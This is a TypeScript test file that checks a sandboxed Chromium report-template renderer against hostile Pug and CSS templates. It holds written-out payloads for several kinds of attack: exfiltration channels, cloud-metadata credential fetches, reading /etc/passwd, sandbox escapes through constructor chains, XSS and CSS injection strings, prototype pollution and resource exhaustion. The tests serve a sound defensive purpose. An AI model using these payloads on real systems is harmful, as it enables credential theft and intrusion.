// @module-tag long
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { placeholderUrl } from '@lintel/pdf/placeholder'
import { reportDocument, sampleReport, type DocumentSource, type SectionCode, type SettingValues } from '@lintel/print'
import { newClient } from '@lintel/rules'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startChromium } from './chromium.ts'
import { PART_ADDRESS } from './in-parts/part.ts'
import { layOut, tryTemplate } from './lay-out.ts'
import { openLockedPage, pageContent } from './locked-page.ts'
import { aJob, testedProfile, textsOf } from './testing.fixture.ts'

const LIMITS = { deadlineMs: 6000, heapMb: 200, memoryMb: 700 }

/** Requests that reached this machine's loopback interface. */
const arrived: string[] = []
const server = createServer((request, response) => {
  arrived.push(`${request.method} ${request.url}`)
  response.setHeader('access-control-allow-origin', '*')
  response.end('reached')
}).on('upgrade', (request, socket) => {
  arrived.push(`WebSocket ${request.url}`)
  socket.destroy()
})
const udp = createSocket('udp4').on('message', () => arrived.push('UDP'))
let host = ''

beforeAll(async () => {
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const { port } = server.address() as AddressInfo
  udp.bind(port, '127.0.0.1')
  await once(udp, 'listening')
  host = `127.0.0.1:${port}`
})

afterAll(() => {
  server.close()
  udp.close()
})

/** Every known way out of a page; `metadata` is where a cloud machine exposes its credentials. */
const WAYS_OUT: Record<string, (host: string) => string> = {
  fetch: (host) => `fetch('http://${host}/fetch', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {})`,
  metadata: () => `fetch('http://169.254.169.254/latest/meta-data/', { mode: 'no-cors' }).catch(() => {})`,
  request: (host) => `{ const r = new XMLHttpRequest(); r.open('GET', 'http://${host}/xhr', false); r.send() }`,
  webSocket: (host) => `new WebSocket('ws://${host}/ws')`,
  webTransport: (host) => `new WebTransport('https://${host}/wt')`,
  webRtc: (host) =>
    `{ const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }, { urls: 'turn:${host}?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }`,
  image: (host) => `new Image().src = 'http://${host}/image'`,
  beacon: (host) => `navigator.sendBeacon('http://${host}/beacon', 'x')`,
  eventSource: (host) => `new EventSource('http://${host}/events')`,
  worker: (host) =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://${host}/worker', { mode: 'no-cors' })"])))`,
  sharedWorker: (host) => `new SharedWorker('data:text/javascript,fetch("http://${host}/shared")')`,
  serviceWorker: (host) => `navigator.serviceWorker.register('http://${host}/sw.js')`,
  window: (host) => `window.open('http://${host}/window')`,
  windowMetadata: () => `window.open('http://169.254.169.254/latest/meta-data/')`,
  frame: (host) =>
    `{ const f = document.createElement('iframe'); f.src = 'http://${host}/frame'; document.head.append(f) }`,
  object: (host) =>
    `{ const f = document.createElement('object'); f.data = 'http://${host}/object'; document.head.append(f) }`,
  prefetch: (host) =>
    `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'prerender', 'stylesheet', 'manifest', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.href = 'http://${host}/' + rel; document.head.append(l) }`,
  speculation: (host) =>
    `{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${host}/speculation'] }] }); document.head.append(s) }`,
  script: (host) =>
    `{ const s = document.createElement('script'); s.src = 'http://${host}/script'; document.head.append(s) }`,
  module: (host) => `import('http://${host}/module').catch(() => {})`,
  form: (host) =>
    `for (const [action, target] of [['http://${host}/form', '_blank'], ['http://169.254.169.254/form', '_self']]) { const f = document.createElement('form'); f.action = action; f.method = 'POST'; f.target = target; document.documentElement.append(f); f.submit() }`,
  ping: (host) =>
    `{ const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://${host}/ping'; document.documentElement.append(a); a.click() }`,
  refresh: (host) =>
    `{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://${host}/refresh'; document.head.append(m) }`,
  navigation: (host) => `location.href = 'http://${host}/navigation'`,
  file: () => `location.href = 'file:///etc/passwd'`,
}

describe('ways out of the page', () => {
  it.each(Object.keys(WAYS_OUT))('%s reaches no server', async (name) => {
    const chromium = await startChromium(LIMITS, testedProfile)
    try {
      const way = WAYS_OUT[name]?.(host) ?? ''
      // A way that throws is blocked; one that does not is given time.
      const pug = `-\n  try { ${way} } catch {}\np.url(style="background: url('http://${host}/css')") Still here\nimg(src='http://${host}/tag')\nlink(rel='stylesheet' href='http://${host}/sheet')`
      const job = await aJob(pug, { css: `@import 'http://${host}/import';` })
      // A part of a document can post to one more address than any other page.
      const mayPost = { address: PART_ADDRESS, answer: () => Promise.reject(new Error('No answer.')) }
      const page = await openLockedPage(chromium, { content: pageContent(job), mayPost })
      await page.render().catch(() => undefined)
      await setTimeout(400)
    } finally {
      await chromium.remove()
    }
    expect(arrived).toEqual([])
  })

  it('are noticed by this test if they reach a server', async () => {
    await fetch(`http://${host}/control`)
    expect(arrived.splice(0)).toEqual(['GET /control'])
  })

  it('file addresses give nothing', async () => {
    const pug = `- const r = new XMLHttpRequest()\n- r.open('GET', 'file:///etc/passwd', false)\n- r.send()\np= r.responseText`
    await expect(layOut(await aJob(pug), LIMITS)).rejects.toMatchObject({ name: 'TemplateError' })
  })
})

it.each([
  ['p= process.env.HOME', "report, line 1: Cannot read properties of undefined (reading 'env')"],
  ["p= require('fs')", 'report, line 1: require is not a function'],
  ["p= this.constructor.constructor('return process')().env", 'report, line 1: process is not defined'],
  ["p= photograph.constructor('return process')().env", 'report, line 1: process is not defined'],
  ["p= pages.constructor.constructor('return require')()", undefined],
  ["p= [].map.constructor('return globalThis.process.mainModule')()", undefined],
])('ways into the machine: %s', async (pug, message) => {
  await expect(layOut(await aJob(pug), LIMITS)).rejects.toMatchObject({
    name: 'TemplateError',
    ...(message ? { message } : {}),
  })
})

it.each([
  ['an endless loop', '- while (true) {}'],
  ['an endless chain of promises', '- const again = () => Promise.resolve().then(again)\n- again()'],
  ['a catastrophic regular expression in an attribute', `p(a=/^(a+)+$/.test('${'a'.repeat(40)}!'))`],
  ['endless printing', '- setInterval(() => { for (;;) {} }, 1)\n- const image = new Image()\np x'],
])('templates that never end %s ends at the deadline', async (_, pug) => {
  const began = Date.now()
  const outcome = await layOut(await aJob(pug), { ...LIMITS, deadlineMs: 2000 }).then(
    async (document) => {
      await document[Symbol.asyncDispose]()
      return 'laid out'
    },
    (error: Error) => error.name,
  )
  // A timer may fire too late to do harm; nothing else may succeed.
  expect(pug.includes('setInterval') ? ['LayoutTimeout', 'laid out'] : ['LayoutTimeout']).toContain(outcome)
  expect(Date.now() - began).toBeLessThan(10_000)
})

it.each([
  ['objects', '- const a = []\n- while (true) a.push(new Array(1000).fill(Math.random()))'],
  ['buffers', '- const a = []\n- while (true) { const b = new Uint8Array(5e7); b.fill(1); a.push(b) }'],
  ['elements', "- while (true) document.head.appendChild(document.createElement('i')).textContent = 'x'.repeat(9000)"],
])('templates that exhaust memory %s: too much memory, not a crash', async (_, pug) => {
  await expect(layOut(await aJob(pug), { ...LIMITS, deadlineMs: 30_000 })).rejects.toMatchObject({
    name: 'MemoryExceeded',
  })
})

describe('photographs of other jobs', () => {
  const size = { width: 4, height: 3 }

  it('a placeholder made by hand is refused', async () => {
    const url = placeholderUrl('other-job', size)
    await expect(
      layOut(await aJob(`img(src='${url}' width=40 height=30)`, { photographs: { mine: size } }), LIMITS),
    ).rejects.toMatchObject({ name: 'PlaceholderForeign', photographIds: ['other-job'] })
  })

  it('a placeholder made by hand and drawn by the style sheet is refused too', async () => {
    const css = `body { background: url('${placeholderUrl('other-job', size)}'); height: 9cm }`
    await expect(layOut(await aJob('p x', { css }), LIMITS)).rejects.toMatchObject({ name: 'PlaceholderForeign' })
  })
})

it.each([
  ["- document.write('gone')\n- document.close()", undefined],
  ['- Array.prototype.map = () => { throw new Error("mine") }', 'TemplateError'],
  ['- alert(1)\n- print()\n- close()\np x', undefined],
  ['- location.reload()\np x', undefined],
])('templates that break the page under them %s ends in a clear error or a harmless page', async (pug, name) => {
  const outcome = await layOut(await aJob(pug), LIMITS).then(
    async (document) => {
      await document[Symbol.asyncDispose]()
      return undefined
    },
    (error: Error) => error.name,
  )
  expect([name, undefined]).toContain(outcome)
})

interface Hostile {
  pugcode?: string
  name?: string
  csscode?: string
  values?: SettingValues
  settings?: DocumentSource['settings']
}

/** The sample inventory with a custom template section and its settings. */
function aDocument({ pugcode = 'p Before\np After', name = 'Own', csscode = '', values = {}, settings = [] }: Hostile) {
  const client = newClient({ id: 'c', name: 'Harbour' }, { branchId: 'b' })
  const kind = client.reportfactory.reportTypeList.find((type) => type.name === 'Inventory')
  const { report, photos } = sampleReport(client, kind ?? { name: 'Inventory', activeMenuList: [] })
  const shipped = ['cover', 'contents'].map((id) => ({ name: id, basesectionId: id, pugcode: '', values: {} }))
  const own: SectionCode = { name, basesectionId: '', pugcode, values }
  return reportDocument({
    report,
    client,
    photos,
    settings,
    typeName: 'Inventory',
    inspector: '',
    generatedAt: '2026-11-24T10:00:00.000Z',
    reportSha256: '0'.repeat(64),
    photographsSha256: () => '0'.repeat(64),
    template: { csscode, values, sections: [...shipped, own] },
  })
}

const whole = { deadlineMs: 20_000, heapMb: 300, memoryMb: 900 }
const textOf = async (hostile: Hostile): Promise<string> => {
  await using laidOut = await layOut(aDocument(hostile), whole)
  await setTimeout(300)
  return (await textsOf(await readFile(laidOut.path))).join(' ').replaceAll(/\s+/g, ' ')
}

const printing = `p Before
!= settings.script
!= settings.style
img(src=settings.image)
img(src=settings.code)
a(href=settings.code) Link
p(class=settings.option) #{settings.pug}
p After`
const lists = ['table_border_thickness', 'table_corner_style', 'font_style', 'photographs_per_row', 'page_break']

describe('a template’s settings', { timeout: 120_000 }, () => {
  it.each<[string, (at: string) => Hostile]>([
    [
      'its own: script, style, addresses, Pug, and an option that ends its attribute',
      (at) => ({
        pugcode: printing,
        values: {
          script: `<script>fetch('${at}/script')</script>`,
          style: `<style>@import '${at}/style'; * { background: url(${at}/all) }</style>`,
          image: `${at}/image.jpg`,
          code: `javascript:fetch('${at}/address')`,
          option: `"><img src="${at}/option">`,
          pug: '#{process.exit()}\n!= x',
        },
      }),
    ],
    [
      'built-in ones that end their rule or are no option',
      (at) => ({
        settings: [
          { name: 'font', value: `Lato";} @import url(${at}/font);` },
          { name: 'font_css', value: `color: red} @font-face { src: url(${at}/face) } </style><img src=${at}/out>` },
          { name: 'primary_colour', value: `red} body{background:url(${at}/colour)} </style><img src=${at}/primary>` },
          { name: 'secondary_colour', value: `url(${at}/secondary)` },
          { name: 'page_number_style', value: `<img src=${at}/number>[page]"; } @import url(${at}/page);` },
          ...lists.map((name) => ({ name, value: `2px} @import url(${at}/${name}); </style><script src=${at}/x>` })),
        ],
      }),
    ],
    [
      'a style that fetches, and a name that is code',
      (at) => ({
        csscode: `@import '${at}/import'; p { background: url(${at}/css) }`,
        name: `"; throw new Error('mine'); //\n- throw 1`,
      }),
    ],
  ])('%s reach no server, and the document is printed', async (_, hostile) => {
    const text = await textOf(hostile(`http://${host}`))
    expect(text).toContain('Before')
    expect(text).toContain('After')
    expect(arrived).toEqual([])
  })

  it('belong to their section, and pollute no prototype', async () => {
    const values = JSON.parse('{"__proto__": {"polluted": "yes"}, "words": "mine"}') as SettingValues
    const text = await textOf({ pugcode: 'p [#{settings.words}] [#{({}).polluted}]', values })
    expect(text).toContain('[mine] []')
  })

  it('a trial of a template reports unknown names, however many there are', async () => {
    const pugcode = Array.from({ length: 500 }, (_, n) => `p= nobody${n}`).join('\n')
    const unknown = await tryTemplate(aDocument({ pugcode }), whole)
    expect(unknown.length).toBeLessThanOrEqual(200)
    expect(unknown).toContain('nobody7')
  })

  it('a trial of one that tampers with its findings ends in a fault or in nothing', async () => {
    const pugcode = '- Set.prototype.add = () => { throw new Error("mine") }\n- Array.from = undefined\np= nobody'
    const outcome = await tryTemplate(aDocument({ pugcode }), whole).catch((error: Error) => error.name)
    expect(Array.isArray(outcome) || outcome === 'TemplateError').toBe(true)
  })
})
